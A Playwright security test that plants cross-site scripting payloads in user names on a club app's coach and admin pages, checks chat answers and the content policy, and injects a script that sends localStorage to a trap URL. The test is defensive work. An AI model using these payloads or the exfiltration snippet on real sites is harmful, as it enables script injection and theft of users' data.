import type { Browser, Page } from '@playwright/test'
import type { Attack } from '../attack.ts'
import { callApi, read } from '../target/call-api.ts'
import { Checks } from '../target/checks.ts'
import { addClub, type Person } from '../target/club.ts'
import type { Target } from '../target/target.ts'
import { openChromium } from './open-chromium.ts'
import { openSignedIn } from './signed-in-page.ts'

/** Each sets `window.ran`, if it runs anywhere. */
const NAMES = [
  '<img src=x onerror="window.ran=1">',
  '<svg onload="window.ran=1">',
  '"><script>window.ran=1</script>',
  '[x](javascript:window.ran=1)',
  "{{constructor.constructor('window.ran=1')()}}",
]
const PAGES = {
  coach: ['/coach-dashboard', '/team-information', '/mat-sheet'],
  admin: ['/admin-dashboard?tab=users', '/admin-dashboard?tab=teams', '/account'],
}
const SETTLED_MS = 1_500

/** Hostile names on the screens, and what a script that got in all the same could do, in Chromium. */
export const browser: Attack = {
  name: 'browser',
  cases: ['10 hostile names on 7 pages', 'framing', 'markdown of answers'],
  criterion:
    'No name, answer or drawing runs as a script; an injected script is blocked by the content policy and reaches no other address; the pages cannot be framed',
  async run(target, { isShort }) {
    const checks = new Checks()
    const club = await addClub(target)
    await rename(target, Object.values(club.people))
    await answersOf(target, club.people.coach, club.subjects.own.team.id, checks)
    const headers = (await callApi(target.url, 'GET /login')).headers
    const policy = String(headers['content-security-policy'])
    checks.that(/frame-ancestors 'self'|frame-ancestors 'none'/.test(policy), `The policy lets others frame: ${policy}`)
    checks.that(!/script-src[^;]*'unsafe-(?:inline|eval)'/.test(policy), `The policy lets any script run: ${policy}`)
    if (isShort) return checks.outcome('without a browser in the short form')
    const opened = await openChromium()
    try {
      for (const role of ['coach', 'admin'] as const)
        await visit(target, opened, { person: club.people[role], pages: PAGES[role] }, checks)
    } finally {
      await opened.close()
    }
    return checks.outcome()
  },
}

async function rename({ pool }: Target, people: readonly (Person | undefined)[]): Promise<void> {
  for (const [at, person] of people.entries())
    await pool.query('update users set first_name = $1, last_name = $2 where id = $3', [
      NAMES[at % NAMES.length],
      NAMES[(at + 1) % NAMES.length],
      person?.id,
    ])
}

async function answersOf({ url }: Target, by: Person | undefined, team_id: string, checks: Checks): Promise<void> {
  for (const message of ['Who is ready?', 'How did the team sleep?', `How is ${NAMES[0]}?`, `${NAMES[3]}`]) {
    const reply = await callApi(url, 'POST /api/chat/', { by, body: { message, team_id } })
    const { response = '' } = read<{ response?: string }>(reply)
    // A backslash or an entity before it makes it text.
    checks.that(!/(?<!\\)<(?:img|svg|script)/i.test(response), `An answer holds markup: ${response.slice(0, 200)}`)
    checks.that(
      !/(?<!\\)\]\(javascript:/i.test(response),
      `An answer holds a link that runs: ${response.slice(0, 200)}`,
    )
  }
}

interface Visit {
  person: Person | undefined
  pages: readonly string[]
}

async function visit(target: Target, opened: Browser, { person, pages }: Visit, checks: Checks): Promise<void> {
  const { url, trap } = target
  const page = await openSignedIn(target, opened, person)
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(url) && !/^(?:data|blob):/.test(request.url())) outside.push(request.url())
  })
  page.on('dialog', (dialog) => {
    outside.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  for (const path of pages) {
    await page.goto(path)
    await page.waitForTimeout(SETTLED_MS)
    const text = (await page.locator('body').textContent()) ?? ''
    checks.that(text.length > 100, `${path} shows nothing: ${text}`)
    checks.that(!(await ran(page)), `A name ran as a script on ${path}`)
  }
  checks.that(outside.length === 0, `The pages asked elsewhere: ${outside.slice(0, 3)}`)
  const before = trap.asked.length
  await page.evaluate(injected(trap.url))
  await page.waitForTimeout(SETTLED_MS)
  checks.that(!(await ran(page)), 'An injected script ran')
  checks.that(trap.asked.length === before, `An injected script reached ${trap.asked.slice(before)}`)
  await page.context().close()
}

function ran(page: Page): Promise<boolean> {
  return page.evaluate("'ran' in window")
}

/** What a script would try that was written into the page. */
function injected(elsewhere: string): string {
  return `
    const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields))
    add('script', { textContent: 'window.ran = 1' })
    add('script', { src: '${elsewhere}/script.js' })
    add('img', { src: '${elsewhere}/picture.png' })
    add('iframe', { src: '${elsewhere}/frame' })
    add('object', { data: '${elsewhere}/object' })
    add('div', { innerHTML: '<a onclick="window.ran=1" id="pressed">x</a>' })
    document.getElementById('pressed').click()
    fetch('${elsewhere}/fetched', { method: 'POST', body: JSON.stringify(localStorage) }).catch(() => {})
    navigator.sendBeacon('${elsewhere}/beacon', 'x')
    undefined`
}
